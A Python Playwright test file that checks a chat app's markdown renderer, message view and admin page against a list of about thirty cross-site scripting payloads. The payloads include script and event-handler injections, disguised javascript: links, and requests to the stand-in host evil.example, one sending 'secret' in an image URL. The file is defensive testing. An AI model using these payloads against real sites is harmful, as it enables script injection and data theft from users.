"""Nothing that a model, a tool or a person writes comes alive on a page."""

import json

from playwright.async_api import Page

XSS = [
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()><a xlink:href=javascript:pwned()>x</a></svg>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<iframe srcdoc='<script>pwned()</script>'></iframe>",
    "<form action=https://evil.example><input name=attributes><button>x</button></form>",
    "<base href=https://evil.example/>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "[x](javascript:pwned())",
    "[x](JaVaScRiPt:pwned())",
    "[x](java\tscript:pwned())",
    "[x](&#106;avascript:pwned())",
    "[x](\u0001javascript:pwned())",
    "[x](data:text/html,<script>pwned()</script>)",
    "[x](vbscript:pwned())",
    "[x](//evil.example)",
    '[x](https://example.org" onmouseover="pwned())',
    "![x](https://evil.example/?d=secret)",
    "![x](javascript:pwned())",
    "![<img src=x onerror=pwned()>](https://evil.example/i.png)",
    "[![x](https://evil.example/i.png)](javascript:pwned())",
    "<https://evil.example> <javascript:pwned()>",
    "```<img src=x onerror=pwned()>\n<script>pwned()</script>\n```",
    "`<img src=x onerror=pwned()>`",
    "# <img name=body><form id=chat-page>",
    "| <img src=x onerror=pwned()> |\n|---|\n| [x](javascript:pwned()) |\n",
    "- [x] <video src=https://evil.example onerror=pwned()>",
    "$<math><mtext></mtext></math>$ \\(<img src=x onerror=pwned()>\\)",
    "<br onclick=pwned()><br/>",
    "\u202e)(gro.elpmaxe\u202c [x](java\u200bscript:pwned()) \x1b]0;x\x07",
]


async def test_nothing_a_model_writes_comes_alive_wherever_it_is_split(markdown: Page):
    active = await markdown.evaluate(
        """(corpus) => {
          const found = [];
          for (const text of corpus) for (let end = 1; end <= text.length; end++) {
            const {root, view} = newView();
            view.update(text.slice(0, end));
            found.push(...findActive(root));
            view.update(text, {whole: true});
            found.push(...findActive(root));
          }
          return [...new Set(found)];
        }""",
        XSS,
    )
    assert active == []
    assert await markdown.evaluate("globalThis.isPwned") is None


async def test_nothing_comes_alive_in_messages_tools_and_questions(markdown: Page):
    active = await markdown.evaluate(
        """async (corpus) => {
          await import("projects/message.js");
          const found = [];
          const show = (message) => {
            const element = document.createElement("chat-message");
            document.querySelector("main").replaceChildren(element);
            element.update({message: {tool_calls: [], attempt: 1, ...message}, versions: [message], isLast: true});
            found.push(...findActive(element));
          };
          for (const text of corpus) {
            const call = {tool_call_id: text, name: text, title: text, arguments: {[text]: text}, payload: {[text]: text}};
            const question = {tool_call_id: "q", name: "ask_user", payload: {question: text, options: [text]}, status: "success"};
            show({id: text, role: "user", content: text, status: "failed", failure: {code: text, detail: text}});
            const running = {...call, status: "running", detail: text};
            const broken = {...call, tool_call_id: "e", status: "error", error: text};
            const error = {code: text, error: text, retryable: true};
            show({id: text, role: "assistant", content: "", status: "running", phase: text, tool_calls: [running, broken]});
            show({id: text, role: "assistant", content: "", status: "error", error, usage: {model: text}, tool_calls: [question]});
          }
          return [...new Set(found)];
        }""",
        XSS,
    )
    assert active == []
    assert await markdown.evaluate("globalThis.isPwned") is None


async def test_the_admin_takes_html_strings_only_as_plain_elements(studio: Page):
    # Chromium reports a handler that it meets while parsing, even in a document that is shown nowhere.
    studio.expected_console += [
        r"^Executing inline event handler",
        r"^Applying inline style",
        r"(script|style)-src-attr inline",
    ]
    html = await studio.evaluate(
        """async (corpus) => {
          await import("/static/projects/admin/trusted-types.js");
          const box = document.createElement("div");
          document.querySelector("main").replaceChildren(box);
          const found = corpus.flatMap((text) => { box.innerHTML = text; return findActive(box); });
          box.innerHTML = '<select id="a" class="b" onchange="pwned()" style="color:red"><option selected>c</option></select>';
          return [JSON.stringify(found.filter((html) => !html.startsWith("<input"))), box.innerHTML];
        }""",
        XSS,
    )
    assert html == [json.dumps([]), '<select id="a" class="b"><option selected="">c</option></select>']
    assert await studio.evaluate("globalThis.isPwned") is None
